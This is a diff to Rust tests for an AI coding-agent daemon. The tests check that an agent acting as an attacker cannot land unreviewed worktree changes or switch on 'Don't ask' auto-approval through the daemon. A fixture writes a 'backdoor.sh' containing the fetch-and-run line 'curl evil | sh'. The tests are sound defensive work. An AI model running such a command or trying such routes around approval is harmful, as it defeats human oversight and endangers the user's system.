@@ -790,21 +790,39 @@ for number, (method, params) in enumerate(asks, 1):
     print(wire.readline().strip(), flush=True)
 "#;
 
-#[test]
-fn an_agents_command_cannot_land_or_turn_dont_ask_on_through_the_daemon() {
-    let env = TestEnv::new();
+/// A daemon of `env` whose model (the attacker's stand-in) may use Unix sockets, a client of the
+/// person, and a session the person opened in a worktree: the repository, the model, the
+/// daemon, the person's client and what `session.open` answered.
+fn a_persons_session_and_an_attacker(env: &TestEnv) -> (PathBuf, StandIn, Daemon, Wire, Value) {
     let repo = env.repo("project");
     let attacker = StandIn::start(vec![]);
     configure(
-        &env,
+        env,
         &[("default", &attacker)],
         "[sandbox]\nunix_sockets = true\n",
     );
-    let daemon = Daemon::start(&env, &repo);
+    let daemon = Daemon::start(env, &repo);
     let mut person = daemon.client();
-    // The person's session, with work in its worktree that nobody reviewed.
     let opened = person.ok("session.open", json!({"repo": repo, "worktree": "always"}));
+    (repo, attacker, daemon, person, opened)
+}
+
+/// Whether session `id`'s log records Don't ask turned on or off.
+fn dont_ask_recorded(env: &TestEnv, repo: &Path, id: &str) -> bool {
+    let events = env.nodwyn_json(repo, &["session", "events", id]);
+    events
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|r| r["type"] == "session.dont_ask")
+}
+
+#[test]
+fn an_agents_command_cannot_land_or_turn_dont_ask_on_through_the_daemon() {
+    let env = TestEnv::new();
+    let (repo, attacker, daemon, mut person, opened) = a_persons_session_and_an_attacker(&env);
     let target = opened["session"].as_str().unwrap().to_owned();
+    // The person's session has work in its worktree that nobody reviewed.
     write(
         &Path::new(opened["root"].as_str().unwrap()).join("backdoor.sh"),
         "curl evil | sh\n",
@@ -836,15 +854,7 @@ fn an_agents_command_cannot_land_or_turn_dont_ask_on_through_the_daemon() {
 
     // Nothing landed, and Don't ask was never recorded.
     assert!(!repo.join("backdoor.sh").exists());
-    let events = env.nodwyn_json(&repo, &["session", "events", &target]);
-    assert!(
-        !events
-            .as_array()
-            .unwrap()
-            .iter()
-            .any(|r| r["type"] == "session.dont_ask"),
-        "{events:#}"
-    );
+    assert!(!dont_ask_recorded(&env, &repo, &target));
     // The person's own client may.
     let landed = person.ok(
         "session.land",
@@ -865,16 +875,7 @@ fn an_agents_command_cannot_land_or_turn_dont_ask_on_through_the_daemon() {
 #[test]
 fn a_command_of_another_nodwyn_engine_cannot_turn_dont_ask_on_through_the_daemon() {
     let env = TestEnv::new();
-    let repo = env.repo("project");
-    let model = StandIn::start(vec![]);
-    configure(
-        &env,
-        &[("default", &model)],
-        "[sandbox]\nunix_sockets = true\n",
-    );
-    let daemon = Daemon::start(&env, &repo);
-    let mut person = daemon.client();
-    let opened = person.ok("session.open", json!({"repo": repo, "worktree": "always"}));
+    let (repo, model, daemon, _person, opened) = a_persons_session_and_an_attacker(&env);
     let target = opened["session"].as_str().unwrap().to_owned();
 
     // The run's one command is approved by a standing answer of the person's.
@@ -890,16 +891,7 @@ fn a_command_of_another_nodwyn_engine_cannot_turn_dont_ask_on_through_the_daemon
         openai::text("Done."),
     ]);
     let run = env.nodwyn(&repo, &["run", "--no-worktree", "help"]);
-    let events = env.nodwyn_json(&repo, &["session", "events", &target]);
-    assert!(
-        !events
-            .as_array()
-            .unwrap()
-            .iter()
-            .any(|r| r["type"] == "session.dont_ask"),
-        "{events:#}\n{}",
-        run.stderr
-    );
+    assert!(!dont_ask_recorded(&env, &repo, &target), "{}", run.stderr);
     let said = model.received()[1].body.to_string();
     assert_eq!(said.matches("not_a_person").count(), 2, "{said}");
 }
